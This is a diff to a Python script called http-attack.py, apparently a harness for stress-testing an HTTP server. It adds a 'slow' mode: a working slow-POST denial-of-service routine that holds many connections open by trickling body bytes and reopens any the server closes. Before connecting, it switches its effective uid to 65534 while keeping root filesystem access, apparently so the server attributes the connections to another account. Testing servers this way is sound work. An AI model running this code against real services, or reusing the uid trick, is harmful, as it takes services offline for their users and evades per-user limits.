@@ -5,11 +5,15 @@ Usage: http-attack.py MODE ADDRESS [NUMBER]; ADDRESS is HOST:PORT or the path of
 
   idle      opens NUMBER connections and says nothing on them
   drip      opens NUMBER connections that send the head of a request byte by byte, and waits until the server ends all of them
+  slow      opens NUMBER connections as the account 65534, each with a request whose body comes byte by byte, and opens those that the
+            server ends again
   bodies    sends NUMBER requests with bodies of 60 MB at once, and prints the statuses of the answers
   chunks    sends a body in chunks whose lengths are none, and prints the answer
 
-'idle' prints 'ready' once all are open and holds them until it is ended.
+'idle' and 'slow' print 'ready' once all are open and hold them until they are ended.
 """
+import ctypes
+import os
 import resource
 import socket
 import sys
@@ -52,6 +56,35 @@ def drip(address, number):
             break
         time.sleep(0.2)
     print("still open:", len(clients))
+
+
+def slow(address, number):
+    # Only who connects counts for the server; what this process may open stays as it is.
+    os.seteuid(65534)
+    ctypes.CDLL(None).setfsuid(0)
+    path = "/api/v1/slots" if address.startswith("/") else "/healthz"
+    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n".encode()
+
+    def begin():
+        client = connect(address)
+        client.setblocking(False)
+        client.send(head)
+        return client
+
+    clients = [begin() for _ in range(number)]
+    print("ready", flush=True)
+    while True:
+        for position, client in enumerate(clients):
+            try:
+                client.send(b" ")
+                if client.recv(65536) == b"":
+                    raise ConnectionResetError
+            except BlockingIOError:
+                pass
+            except OSError:
+                client.close()
+                clients[position] = begin()
+        time.sleep(0.2)
 
 
 def answer(client):
@@ -105,4 +138,4 @@ if __name__ == "__main__":
     number = int(sys.argv[3]) if len(sys.argv) > 3 else 1
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    {"idle": idle, "drip": drip, "bodies": bodies, "chunks": chunks}[mode](address, number)
+    {"idle": idle, "drip": drip, "slow": slow, "bodies": bodies, "chunks": chunks}[mode](address, number)
